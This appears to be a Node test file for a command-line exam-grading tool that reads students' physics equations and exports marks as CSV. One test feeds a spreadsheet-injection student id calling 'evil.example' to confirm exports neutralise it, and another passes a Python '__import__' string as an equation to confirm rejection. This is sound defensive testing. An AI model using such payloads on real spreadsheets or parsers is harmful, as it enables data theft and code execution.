import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { main, type Io } from '../../electron/cli/main.ts';
import { ROOT } from './helpers.ts';
import { Workspace } from '../../electron/engine/store/workspace.ts';

const DEMO = join(ROOT, 'resources/demo/exam.json');

async function cli(args: string[]): Promise<{ code: number; out: string; err: string }> {
  let out = '';
  let err = '';
  const io: Io = { out: (s) => void (out += s), err: (s) => void (err += s), isTTY: false };
  const code = await main(args, io);
  return { code, out, err };
}

test('bad arguments: exit 2 with what is wrong and the usage', async () => {
  let r = await cli(['frobnicate']);
  assert.equal(r.code, 2);
  assert.match(r.err, /unknown command 'frobnicate'/);
  r = await cli(['grade', '--exam', DEMO, '--out', '/tmp/x']);
  assert.match(r.err, /exactly one of --responses R.csv or --equations L.csv/);
  r = await cli(['grade', '--exam', DEMO, '--responses', 'r.csv', '--out', '/tmp/x', '--fast']);
  assert.match(r.err, /unknown option --fast/);
  r = await cli(['grade', '--exam']);
  assert.match(r.err, /--exam needs a value/);
  r = await cli(['grade', '--exam', DEMO, '--responses', 'r.csv', '--out', '/tmp/x', '--technique', 'psychic']);
  assert.match(r.err, /unknown technique 'psychic' \(available: embedded, plain, direct, llm-modulo, consensus, per-line, hybrid\)/);
  r = await cli(['check', '--exam', DEMO, '--question', 'q1', 'H = 1']);
  assert.match(r.err, /exactly two equations/);
  const help = await cli(['help']);
  assert.equal(help.code, 0);
  // The usage documents the techniques, the model options, exit status 3 and the environment.
  for (const s of [
    '--technique T',
    '--model M',
    '--ollama-url URL',
    '--gpu NAME',
    '--cache FILE|none',
    'hybrid',
    'embedded',
    '3 some responses wait',
    'EQUIMARK_MODEL',
    'OLLAMA_HOST',
  ])
    assert.ok(help.out.includes(s), s);
});

test('bad files: exit 1 naming the file, the place and the problem; a rejected CSV stores nothing', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'eqm-cli-'));
  try {
    let r = await cli(['grade', '--exam', join(dir, 'nope.json'), '--responses', 'r.csv', '--out', dir]);
    assert.equal(r.code, 1);
    assert.match(r.err, /nope\.json: invalid exam:\n {2}\(top level\): cannot read file: ENOENT/);
    const bad = join(dir, 'bad.json');
    writeFileSync(bad, readFileSync(DEMO, 'utf8').replace('"Eq(t, u/g)"', '"Eq(t, U/g)"'));
    r = await cli(['check', '--exam', bad, '--question', 'q1', 'H = 1', 'H = 2']);
    assert.match(r.err, /questions\[0\]\.scheme\[0\]\.accept\[0\]: symbol 'U' is not a variable of this question \(u, g, t, H\); did you mean 'u'\?/);
    const csv = join(dir, 'r.csv');
    writeFileSync(csv, 'student_id,question_id,response\nS1,q1,"H = 1"\nS1,q1,again\nS2,q4,x\n');
    r = await cli(['grade', '--exam', DEMO, '--responses', csv, '--out', join(dir, 'out')]);
    assert.equal(r.code, 1);
    assert.match(r.err, /line 3: duplicate response for student 'S1', question 'q1' \(first on line 2\)/);
    assert.match(r.err, /line 4: unknown question id 'q4'/);
    assert.equal(existsSync(join(dir, 'out', 'workspace.sqlite')), false, 'nothing stored');
    r = await cli(['check', '--exam', DEMO, '--question', 'q9', 'H = 1', 'H = 2']);
    assert.match(r.err, /question 'q9' is not in the exam \(questions: q1, q2, q3\)/);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('check: both directions with method and evidence, parse errors by equation', async () => {
  let r = await cli(['check', '--exam', DEMO, '--question', 'q1', 'H = u**2/(2*g)', 'u**2 = 2*g*H']);
  assert.equal(r.code, 0, r.err);
  assert.match(r.out, /EQ1 => EQ2: holds \(/);
  assert.match(r.out, /EQ2 => EQ1: holds \(/);
  assert.match(r.out, /equivalent: yes/);
  r = await cli(['check', '--exam', DEMO, '--question', 'q1', 'H = u**2/g', 'H = u**2/(2*g)', '--json']);
  const j = JSON.parse(r.out);
  assert.equal(j.forward.holds, false);
  assert.ok(j.forward.counterexample || j.forward.samples, 'a refutation comes with evidence');
  r = await cli(['check', '--exam', DEMO, '--question', 'q1', 'H = -u**2/(2*g)', 'H = 1']);
  assert.match(r.out, /EQ1 .* consistent: NO: inconsistent/);
  r = await cli(['check', '--exam', DEMO, '--question', 'q1', 'H = x', "__import__('os')"]);
  assert.equal(r.code, 1);
  assert.match(r.err, /EQ1 "H = x": symbol 'x' is not a variable/);
  assert.match(r.err, /EQ2 .*/);
});

test('check prints the dimensions of each side when the question declares units', async () => {
  let r = await cli(['check', '--exam', DEMO, '--question', 'q2', 'R = (R_1 + R_2)/(R_1*R_2)', 'R = R_1*R_2/(R_1 + R_2)']);
  assert.equal(r.code, 0, r.err);
  assert.match(r.out, /^EQ1 dimensions: INCONSISTENT: left: Ω, right: 1\/Ω$/m);
  assert.match(r.out, /^EQ2 dimensions: consistent, both sides Ω$/m);
  r = await cli(['check', '--exam', DEMO, '--question', 'q3', 'v = 2*g*h', 'v**2 = 2*g*h', '--json']);
  const j = JSON.parse(r.out);
  assert.deepEqual(j.dimensions1, { status: 'inconsistent', left: 'm/s', right: 'm^2/s^2', note: 'left: m/s, right: m²/s²' });
  assert.equal(j.dimensions2.status, 'consistent');
});

test('grade the demo: marks.csv with the union of item columns, manual items empty; equations.csv', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'eqm-demo-'));
  try {
    // As `npm run demo` runs it: no model configured, so the embedded extractor reads everything.
    const r = await cli(['grade', '--exam', DEMO, '--responses', join(ROOT, 'resources/demo/responses.csv'), '--out', dir]);
    assert.equal(r.code, 0, r.err);
    assert.match(r.out, /graded 24 responses/);
    const marks = readFileSync(join(dir, 'marks.csv'), 'utf8').trim().split('\n');
    assert.equal(marks[0], 'student_id,question_id,a,b,c,d,r1,r2,v1,v2,total,status,dimensions,follow_through');
    assert.ok(marks.includes('D01,q1,1,1,2,,,,,,4,manual-open,,'), marks.join('\n'));
    assert.ok(marks.includes('D01,q2,,,,,1,1,,,2,complete,,'));
    assert.ok(marks.includes('D05,q1,0,0,0,,,,,,0,blank,,'));
    assert.ok(marks.includes('D03,q1,0,1,0,,,,,,1,manual-open,,'), 'an unsolved equivalent equation is not an answer');
    // Error carried forward: a wrong time to the top (t = u/(2g)) worked on correctly earns b by
    // follow-through, marked in the last column; a second error (a wrong height from it) earns nothing.
    assert.ok(marks.includes('D09,q1,0,1,0,,,,,,1,manual-open,,b'), marks.join('\n'));
    assert.ok(marks.includes('D10,q1,0,0,0,,,,,,0,manual-open,,'), marks.join('\n'));
    // Dimensions beside the marks; the numeric item: a conversion earns it, 4 figures and a wrong unit don't, "about 10" is the instructor's.
    assert.ok(marks.includes('D07,q2,,,,,0,0,,,0,complete,"1: Eq(R, (R_1 + R_2)/(R_1*R_2)): left: Ω, right: 1/Ω",'), marks.join('\n'));
    // "which is 36 km/h": v = 36 with its unit earns the numeric item, but a number stated in words
    // as a result is a reading choice (recorded or not, as markers differ), so it waits for review.
    assert.ok(marks.includes('D02,q3,,,,,,,1,1,2,needs-review,,'), marks.join('\n'));
    assert.ok(marks.includes('D04,q3,,,,,,,1,0,1,complete,,'));
    assert.ok(marks.includes('D05,q3,,,,,,,1,0,1,complete,,'));
    assert.ok(marks.includes('D06,q3,,,,,,,1,1,2,complete,,'));
    assert.ok(marks.includes('D07,q3,,,,,,,0,,0,undecided,,'));
    const eqs = readFileSync(join(dir, 'equations.csv'), 'utf8');
    assert.match(eqs, /D03,q3,.*,embedded,read,dimensions/);
    assert.match(eqs, /^student_id,question_id,equations,source,status,flags\n/);
    assert.match(eqs, /D04,q1,"\[""Eq\(H, -u\*\*2\/\(2\*g\)\)""\]",embedded,read,inconsistent/);
    // A rerun does no work and writes nothing: the files are already those of the workspace.
    const rerun = () => cli(['grade', '--exam', DEMO, '--responses', join(ROOT, 'resources/demo/responses.csv'), '--out', dir, '--technique', 'plain']);
    const written = statSync(join(dir, 'marks.csv')).mtimeMs;
    const again = await rerun();
    assert.match(again.out, /this run: extracted 0, marked 0/);
    assert.match(again.out, /unchanged since the last run \(nothing to write\)/);
    assert.equal(statSync(join(dir, 'marks.csv')).mtimeMs, written, 'not written again');
    assert.equal(readFileSync(join(dir, 'marks.csv'), 'utf8').trim(), marks.join('\n'));
    // A file edited or removed since is written again, as the workspace has it.
    writeFileSync(join(dir, 'marks.csv'), 'edited by hand\n');
    rmSync(join(dir, 'gradebook.csv'));
    assert.match((await rerun()).out, /\bwrote .*marks\.csv/);
    assert.equal(readFileSync(join(dir, 'marks.csv'), 'utf8').trim(), marks.join('\n'));
    assert.ok(existsSync(join(dir, 'gradebook.csv')));
    // A change in the workspace (an override) is exported at the next run.
    const ws = new Workspace(join(dir, 'workspace.sqlite'));
    try {
      const d05 = ws.listResponses('demo-physics').find((r) => r.studentId === 'D05' && r.questionId === 'q1')!;
      ws.setOverride(d05.id, 'a', 1, 'seen on the paper');
    } finally {
      ws.close();
    }
    assert.match((await rerun()).out, /\bwrote .*marks\.csv/);
    assert.ok(readFileSync(join(dir, 'marks.csv'), 'utf8').includes('D05,q1,1,0,0,,,,,,1,'), readFileSync(join(dir, 'marks.csv'), 'utf8'));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('re-grading with an exam that drops a question with responses: a clear refusal, nothing changed', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'eqm-drop-'));
  try {
    const responses = join(ROOT, 'resources/demo/responses.csv');
    let r = await cli(['grade', '--exam', DEMO, '--responses', responses, '--out', dir]);
    assert.equal(r.code, 0, r.err);
    const marks = readFileSync(join(dir, 'marks.csv'), 'utf8');
    // The same exam with q2 dropped (or renamed: a renamed question is a dropped one).
    for (const change of ['drop', 'rename']) {
      const exam = JSON.parse(readFileSync(DEMO, 'utf8'));
      if (change === 'drop') exam.questions = exam.questions.filter((q: { id: string }) => q.id !== 'q2');
      else exam.questions.find((q: { id: string }) => q.id === 'q2').id = 'q2b';
      const examPath = join(dir, `exam-${change}.json`);
      writeFileSync(examPath, JSON.stringify(exam));
      const q1Only = join(dir, 'q1.csv');
      writeFileSync(
        q1Only,
        readFileSync(responses, 'utf8')
          .replace(/\r\n/g, '\n')
          .split('\n')
          .filter((l, i) => i === 0 || !/^D\d+,q2,/.test(l))
          .join('\n'),
      );
      r = await cli(['grade', '--exam', examPath, '--responses', q1Only, '--out', dir]);
      assert.equal(r.code, 1, change);
      assert.match(
        r.err,
        /exam 'demo-physics' no longer has question 'q2' \(\d+ responses\), but the workspace .*workspace\.sqlite holds responses to it; nothing was changed\. Put the question back in the exam/,
      );
      assert.doesNotMatch(r.err, /\n\s+at /, 'no stack trace');
    }
    // Nothing was lost: the original exam grades again with no work and the same marks.
    r = await cli(['grade', '--exam', DEMO, '--responses', responses, '--out', dir]);
    assert.equal(r.code, 0, r.err);
    assert.match(r.out, /this run: extracted 0, marked 0/);
    assert.equal(readFileSync(join(dir, 'marks.csv'), 'utf8'), marks);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('exports neutralise formula-like student ids (OWASP), and equations.csv grades back onto the same students', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'eqm-inject-'));
  try {
    const csv = join(dir, 'r.csv');
    const ids = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+441234', '-D02', '@SUM(A1:A9)', 'D05'];
    writeFileSync(csv, `student_id,question_id,response\n${ids.map((id) => `"${id.replace(/"/g, '""')}",q1,H = u**2/(2*g)`).join('\n')}\n`);
    let r = await cli(['grade', '--exam', DEMO, '--responses', csv, '--out', dir]);
    assert.equal(r.code, 0, r.err);
    for (const name of ['marks.csv', 'equations.csv']) {
      const lines = readFileSync(join(dir, name), 'utf8').trim().split('\n').slice(1);
      assert.equal(lines.length, ids.length);
      for (const l of lines) assert.doesNotMatch(l, /^"?[=+\-@\t\r]/, `${name}: ${l}`);
      const text = readFileSync(join(dir, name), 'utf8');
      assert.ok(text.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",q1,`), name);
      for (const id of ["'+441234,q1,", "'-D02,q1,", "'@SUM(A1:A9),q1,", '\nD05,q1,']) assert.ok(text.includes(id), `${name}: ${id}`);
    }
    // The per-student export (the app's) does the same.
    const { Workspace } = await import('../../electron/engine/store/workspace.ts');
    const { studentMarksCsv } = await import('../../electron/engine/io/csv/write.ts');
    const { loadExamFile } = await import('../../electron/engine/io/exam.ts');
    const ws = new Workspace(join(dir, 'workspace.sqlite'));
    try {
      const per = studentMarksCsv(ws, loadExamFile(DEMO).exam).trim().split('\n').slice(1);
      assert.equal(per.length, ids.length);
      for (const l of per) assert.doesNotMatch(l, /^"?[=+\-@\t\r]/, l);
    } finally {
      ws.close();
    }
    // equations.csv, given back as the equation lists, lands on the same five responses.
    r = await cli(['grade', '--exam', DEMO, '--equations', join(dir, 'equations.csv'), '--out', dir]);
    assert.equal(r.code, 0, r.err);
    assert.match(r.out, /graded 5 responses/);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('an unexpected error prints one line "error: ..." and exits 1, the stack only with EQUIMARK_DEBUG', async () => {
  const { unexpectedErrorText } = await import('../../electron/cli/main.ts');
  // stdout gone (EPIPE): the error reaches the top level.
  let err = '';
  const io: Io = {
    out: () => {
      throw new Error('write EPIPE\nsecond line');
    },
    err: (s) => void (err += s),
    isTTY: false,
  };
  assert.equal(await main(['help'], io), 1);
  assert.equal(err, 'error: write EPIPE | second line (set EQUIMARK_DEBUG=1 for details)\n');
  const boom = new TypeError('boom');
  assert.match(unexpectedErrorText(boom, { EQUIMARK_DEBUG: '1' }), /^error: TypeError: boom\n\s+at /);
  assert.equal(unexpectedErrorText('a string', {}), 'error: a string (set EQUIMARK_DEBUG=1 for details)\n');
});

test('engine errors in a grade result: counted, each named, a distinct exit status documented in the help', async () => {
  const { engineErrorsOf, engineErrorLines, EXIT_ENGINE_ERRORS, EXIT_WAITING, USAGE } = await import('../../electron/cli/main.ts');
  assert.equal(EXIT_ENGINE_ERRORS, 4);
  assert.notEqual(EXIT_ENGINE_ERRORS, EXIT_WAITING);
  assert.match(USAGE, /4 some responses hit an engine error/);
  assert.match(USAGE, /EQUIMARK_DEBUG/);
  // Read defensively: absent or malformed is none.
  assert.deepEqual(engineErrorsOf({}), []);
  assert.deepEqual(engineErrorsOf({ engineErrors: 'x' }), []);
  assert.deepEqual(engineErrorsOf(undefined), []);
  const list = engineErrorsOf({
    engineErrors: [
      { studentId: 'S1', questionId: 'q1', message: 'z3 crashed\nat depth 3' },
      { studentId: 'S2', questionId: 'q2', message: 'timeout' },
      { studentId: 'S3', questionId: 'q2', message: 'timeout' },
    ],
  });
  assert.deepEqual(engineErrorLines(list), [
    '3 responses hit an engine error (left ungraded; the rest is graded and written):',
    '  S1/q1: z3 crashed | at depth 3',
    '  S2/q2, S3/q2: timeout',
    'Run the same command again to retry them; if they fail again, report the messages above.',
  ]);
  assert.deepEqual(engineErrorLines([]), []);
});

test('a responses CSV with invalid UTF-8 or a NUL byte: exit 1 naming file and line, nothing stored', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'eqm-bytes-'));
  try {
    const csv = join(dir, 'r.csv');
    writeFileSync(
      csv,
      Buffer.concat([Buffer.from('student_id,question_id,response\r\nD01,q1,"H = 1\r\nok"\r\nD02,q1,caf'), Buffer.from([0xe9]), Buffer.from('\r\n')]),
    );
    let r = await cli(['grade', '--exam', DEMO, '--responses', csv, '--out', join(dir, 'out')]);
    assert.equal(r.code, 1);
    assert.equal(
      r.err,
      `equimark: ${csv}, line 4: not valid UTF-8 text (bytes e9 0d 0a, byte 64 of the file): save the file as UTF-8 CSV (in Excel: "CSV UTF-8")\n`,
    );
    writeFileSync(csv, 'student_id,question_id,response\rD01,q1,"H = 1\rok"\rD02,q1,a\u0000\r');
    r = await cli(['grade', '--exam', DEMO, '--responses', csv, '--out', join(dir, 'out')]);
    assert.equal(r.code, 1);
    assert.match(r.err, new RegExp(`^equimark: ${csv.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}, line 4: a NUL byte`));
    assert.equal(existsSync(join(dir, 'out', 'workspace.sqlite')), false, 'nothing stored');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('grade --equations: a file read a piece at a time; a bad record in a late piece exits 1 with its line and stores nothing, earlier lists and marks kept', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'eqm-pieces-'));
  try {
    const csv = join(dir, 'lists.csv');
    // A first run stores S0's list; then 2,000 rows of 1 KB (an extra column, ignored): two
    // pieces (1 MiB each) whose first would replace S0's list, and the last row is malformed.
    writeFileSync(csv, 'student_id,question_id,equations\nS0,q1,"[""t = u/g""]"\n');
    const r0 = await cli(['grade', '--exam', DEMO, '--equations', csv, '--out', dir]);
    assert.equal(r0.code, 0, r0.err);
    const before = readFileSync(join(dir, 'marks.csv'), 'utf8');
    const listOfS0 = (ws: Workspace): string[] | undefined => ws.getExtraction(ws.findResponse('demo-physics', 'S0', 'q1')!)?.equations.map((e) => e.source);
    const ws0 = new Workspace(join(dir, 'workspace.sqlite'));
    const listBefore = listOfS0(ws0);
    ws0.close();
    assert.equal(listBefore?.length, 1);
    const pad = 'x'.repeat(1000);
    const rows = Array.from({ length: 2000 }, (_, i) => `S${i},q1,[],${pad}`);
    rows[1999] = `S1999,q1,"[]" oops,${pad}`;
    writeFileSync(csv, `student_id,question_id,equations,note\n${rows.join('\n')}\n`);
    const r = await cli(['grade', '--exam', DEMO, '--equations', csv, '--out', dir]);
    assert.equal(r.code, 1, r.err);
    assert.match(r.err, /lists\.csv, line 2001: /);
    assert.doesNotMatch(r.err, /read before it/);
    const ws = new Workspace(join(dir, 'workspace.sqlite'));
    try {
      assert.equal(ws.listResponses('demo-physics').length, 1, 'no list of the bad file stored');
      assert.deepEqual(listOfS0(ws), listBefore, "S0's list as it was");
    } finally {
      ws.close();
    }
    assert.equal(readFileSync(join(dir, 'marks.csv'), 'utf8'), before, 'marks as they were');
    // A file bad in its first piece stores nothing.
    const dir2 = join(dir, 'first');
    writeFileSync(csv, `student_id,question_id,equations\nS1,q1,"[]" oops\n`);
    const r2 = await cli(['grade', '--exam', DEMO, '--equations', csv, '--out', dir2]);
    assert.equal(r2.code, 1);
    assert.match(r2.err, /lists\.csv, line 2: /);
    assert.doesNotMatch(r2.err, /read before it/);
    assert.equal(existsSync(join(dir2, 'workspace.sqlite')), false);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
